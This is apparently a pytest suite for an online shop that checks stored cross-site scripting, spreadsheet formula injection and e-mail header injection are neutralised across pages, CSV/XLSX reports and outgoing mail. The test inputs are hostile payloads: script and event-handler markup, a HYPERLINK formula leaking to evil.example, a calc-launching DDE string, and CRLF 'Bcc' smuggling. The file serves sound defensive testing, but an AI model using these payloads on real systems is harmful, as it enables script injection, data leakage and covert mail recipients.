"""Stored XSS and formula injection: what marketers and customers type is shown as text.

Payloads go in through the real forms (insurance texts, checkout details) or the database (the
catalogue has no editing page yet), then every page that shows them is read the way a browser
builds it: no script, no event handler, no ``javascript:`` link may come out of them, and the
text itself must be on the page (dropping it would hide the test, not pass it).
"""

from __future__ import annotations

import csv
import email
import io
import re
from email import policy

import pytest
from jinja2.utils import htmlsafe_json_dumps
from openpyxl import load_workbook
from sqlalchemy import select

from storefront.models import Family, Product
from tests.conftest import ShopClient
from tests.integration.helpers import (
    CUSTOMER,
    add,
    checkout,
    payment_token,
    product_id,
    staff_client,
)
from tests.security.helpers import EN, injected_markup, inspect, page_text
from tests.security.routes import HTMX, PUBLIC, World, declared, methods, read, samples_from, send

INSURANCE = "/settings/catalogue/misc/insurance"
REPORT = f"{INSURANCE}/report"

P = {
    "insurance_name": 'Cover "><script>alert(1)</script><img src=x onerror=alert(2)>',
    "description": "</textarea><script>alert(3)</script><svg onload=alert(4)>{{7*7}}",
    "insurer": "Insurer '><iframe src=javascript:alert(5)></iframe>",
    "product": 'Jazz <script>alert(6)</script><a href="javascript:alert(7)">x</a>',
    "venue": "<img src=x onerror=alert(8)>",
    "family": '"><body onload=alert(9)>',
    "first_name": "<script>alert(10)</script>",
    "last_name": '=HYPERLINK("http://evil.example/?leak","click")',
    "street": '"><img src=x onerror=alert(11)> 1 rue',
    "city": "+cmd|' /C calc'!A0",
}
PAYLOAD_CUSTOMER = {
    **CUSTOMER,
    "first_name": P["first_name"],
    "last_name": P["last_name"],
    "street": P["street"],
    "city": P["city"],
}
# Cells a spreadsheet would evaluate.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def shown(html: str, text: str) -> bool:
    """``text`` is on the page as text, or as the value of a form field."""
    if text in page_text(html):
        return True
    return any(attrs.get("value") == text for _, attrs in inspect(html).elements)


def save_define(client: ShopClient, **values):
    page = client.get(f"{INSURANCE}/define").get_data(as_text=True)
    version = re.search(r'name="version" type="hidden" value="(\d+)"', page).group(1)
    data = {
        "version": version,
        "name_en": P["insurance_name"],
        "description_en": P["description"],
        "terms_url": "/demo/terms-{LANGUAGE}.html",
        "insurer_name": P["insurer"],
        "insurer_email": "reports@insurer.example",
        **values,
    }
    return client.post_multipart(f"{INSURANCE}/define", data, headers=EN)


class Scene:
    """Payloads everywhere, and the pages, files and e-mail that show them."""

    def __init__(self, app) -> None:
        from storefront.extensions import db

        self.app = app
        self.pages: dict[str, str] = {}
        self.marketer = staff_client(app, "marketer")
        self.operator = staff_client(app, "operator")
        assert save_define(self.marketer).status_code == 302
        jazz = product_id(app, "Jazz by the Lake")
        with app.app_context():
            product = db.session.get(Product, jazz)
            product.names = {lang: P["product"] for lang in ("en", "fr", "de", "it")}
            product.venue = P["venue"]
            family = db.session.scalars(select(Family).where(Family.code == "tickets")).one()
            family.names = {lang: P["family"] for lang in ("en", "fr", "de", "it")}
            db.session.commit()

        buyer = ShopClient(app.test_client())
        self.get(buyer, "catalogue", "/")
        add(buyer, jazz, 2)
        self.get(buyer, "cart", "/cart")
        self.get(buyer, "cart insurance (htmx)", "/cart/insurance", HTMX)
        self.get(buyer, "terms dialog (htmx)", "/cart/terms", HTMX)
        self.get(buyer, "checkout", "/checkout")
        refused = buyer.post_form("/checkout", {**PAYLOAD_CUSTOMER, "email": "not an address"})
        assert refused.status_code == 422
        self.pages["checkout with errors"] = refused.get_data(as_text=True)
        # Without an answer yet, the last-chance page comes before payment.
        to_popup = checkout(buyer, **PAYLOAD_CUSTOMER)
        assert to_popup.headers["Location"].endswith("/checkout/last-chance")
        self.get(buyer, "last chance", "/checkout/last-chance")
        paying = buyer.post_form("/checkout/last-chance", {"popup": "accepted"})
        token = payment_token(paying)
        self.get(buyer, "payment", f"/payment/demo/{token}")
        approved = buyer.post_form(f"/payment/demo/{token}/approve")
        self.link = approved.headers["Location"]
        self.get(buyer, "confirmation", self.link)

        with app.app_context():
            from storefront.models import Order

            self.number = db.session.scalars(select(Order.number)).one()
        self.get(self.operator, "box office search", f"/box-office?q={self.number}")
        self.get(self.operator, "box office search (htmx)", f"/box-office?q={self.number}", HTMX)
        self.get(self.operator, "box office order", f"/box-office/orders/{self.number}")
        for step in ("", "/define", "/display", "/audit"):
            self.get(self.marketer, f"settings{step or ' overview'}", f"{INSURANCE}{step}")
        preview = self.marketer.post_form(
            f"{INSURANCE}/display/preview", {"display_mode": "opt-in"}, htmx=True
        )
        self.pages["display preview (htmx)"] = preview.get_data(as_text=True)
        self.get(self.marketer, "report preview", REPORT)
        self.get(self.marketer, "report preview (htmx)", REPORT, HTMX)
        self.csv = read(self.marketer.get(f"{REPORT}/download.csv")).get_data()
        self.xlsx = read(self.marketer.get(f"{REPORT}/download.xlsx")).get_data()
        self.export = self.marketer.get(f"{INSURANCE}/export")

        app.config["MAIL_SERVER"] = ""  # into the outbox, read back below
        self.marketer.post_form(f"{REPORT}/send")
        from pathlib import Path

        (self.eml,) = (Path(app.instance_path) / "outbox").glob("*.eml")
        self.world = World(
            app,
            {"marketer": self.marketer, "admin": self.marketer, "operator": self.operator},
            buyer,
            samples_from(app, self.link, token, jazz),
        )

    def get(self, client: ShopClient, label: str, path: str, headers: dict | None = None) -> None:
        response = read(client.get(path, headers={**EN, **(headers or {})}))
        assert response.status_code == 200, f"{label}: {response.status_code}"
        self.pages[label] = response.get_data(as_text=True)


@pytest.fixture(scope="module")
def scene(module_shop) -> Scene:
    return Scene(module_shop)


# Where each payload must be visible (as text): the page would hide the test otherwise.
EXPECTED = {
    "catalogue": ("product", "venue", "family"),
    "cart": ("product", "insurance_name", "description", "insurer"),
    "cart insurance (htmx)": ("insurance_name", "description"),
    "terms dialog (htmx)": ("insurance_name",),
    "checkout": ("product", "insurance_name"),
    "checkout with errors": ("first_name", "last_name", "street", "city"),
    "last chance": ("insurance_name", "description"),
    "confirmation": ("product", "first_name", "last_name", "street", "city"),
    "box office search": ("first_name", "last_name"),
    "box office search (htmx)": ("first_name", "last_name"),
    "box office order": ("product", "first_name", "last_name", "street", "city"),
    "settings/define": ("insurance_name", "description", "insurer"),
    "settings/display": ("insurance_name", "description"),
    "settings/audit": ("insurance_name",),  # as JSON text: before -> after
    "display preview (htmx)": ("insurance_name", "description"),
    "report preview": ("product", "first_name", "street"),
    "report preview (htmx)": ("product", "first_name", "street"),
}


@pytest.mark.parametrize("label", sorted(EXPECTED))
def test_payloads_are_shown_as_text_and_never_as_markup(scene, label):
    html = scene.pages[label]
    assert injected_markup(html) == []
    as_json = label == "settings/audit"
    missing = [
        name
        for name in EXPECTED[label]
        if not shown(html, str(htmlsafe_json_dumps(P[name])) if as_json else P[name])
    ]
    assert missing == []


@pytest.mark.parametrize("name", [name for name, text in P.items() if "<" in text])
def test_the_inspection_would_see_each_payload_left_unescaped(name):
    """The checks above can fail: each markup payload, rendered raw, is caught."""
    assert injected_markup(f"<p>{P[name]}</p>") != []


def test_no_page_of_any_route_carries_injected_markup(scene):
    """Every GET route of ``app.url_map`` (new ones included), as the people it is meant for."""
    world, checked = scene.world, 0
    wrong = []
    for rule in world.app.url_map.iter_rules():
        if "GET" not in methods(rule) or rule.endpoint == "static":
            continue
        roles = declared(rule.endpoint)
        clients = [world.buyer] if roles is PUBLIC else [world.staff[r] for r in sorted(roles)]
        for client in clients:
            for headers in ({}, HTMX):
                response = send(client, "GET", world.url(rule), headers=headers)
                if response.mimetype == "text/html":
                    checked += 1
                    found = injected_markup(response.get_data(as_text=True))
                    wrong.extend(f"{rule.rule} {headers}: {what}" for what in found)
    assert wrong == []
    assert checked > 20


def test_the_configuration_export_is_json_and_never_sniffed_as_html(scene):
    response = scene.export
    assert response.mimetype == "application/json"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.json["define"]["names"]["en"] == P["insurance_name"]


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_formula_safe(rows: list[dict[str, str]]) -> None:
    assert rows
    for row in rows:
        assert row["last_name"] == "'" + P["last_name"]
        assert row["city"] == "'" + P["city"]
        assert row["first_name"] == P["first_name"]
        assert row["product"] == P["product"]
        assert row["venue"] == P["venue"]
        for name, value in row.items():
            assert not str(value or "").startswith(FORMULA_STARTS), (name, value)


def test_report_csv_cells_cannot_become_formulas(scene):
    assert_formula_safe(csv_rows(scene.csv))


def test_report_xlsx_cells_are_never_formulas(scene):
    sheet = load_workbook(io.BytesIO(scene.xlsx)).active
    cells = list(sheet.iter_rows())
    assert not [c.coordinate for row in cells for c in row if c.data_type == "f"]
    header = [c.value for c in cells[0]]
    # Numbers are typed cells: only text cells could be read as formulas.
    texts = [
        {
            name: c.value if isinstance(c.value, str) else ""
            for name, c in zip(header, row, strict=True)
        }
        for row in cells[1:]
    ]
    assert_formula_safe(texts)


def test_the_insurer_email_is_plain_text_with_a_formula_safe_attachment(scene):
    message = email.message_from_bytes(scene.eml.read_bytes(), policy=policy.default)
    assert message["To"] == "reports@insurer.example"
    assert all("\n" not in value and "\r" not in value for value in message.values())
    types = [part.get_content_type() for part in message.walk()]
    assert "text/html" not in types
    body = message.get_body(preferencelist=("plain",)).get_content()
    assert all(P[name] not in body for name in ("first_name", "last_name", "product"))
    (attachment,) = [part for part in message.iter_attachments()]
    assert attachment.get_content_type() == "text/csv"
    assert_formula_safe(csv_rows(attachment.get_payload(decode=True)))


@pytest.mark.parametrize(
    "address",
    [
        "reports@insurer.example\r\nBcc: spy@evil.example",
        "reports@insurer.example\nBcc: spy@evil.example",
        "reports@insurer.example, spy@evil.example",
        '"<script>alert(1)</script>"@insurer.example',
    ],
)
def test_the_insurer_address_cannot_smuggle_recipients_or_markup(scene, address):
    response = save_define(scene.marketer, insurer_email=address)
    assert response.status_code == 422
    assert "Please enter a valid e-mail address" in response.get_data(as_text=True)
    assert injected_markup(response.get_data(as_text=True)) == []
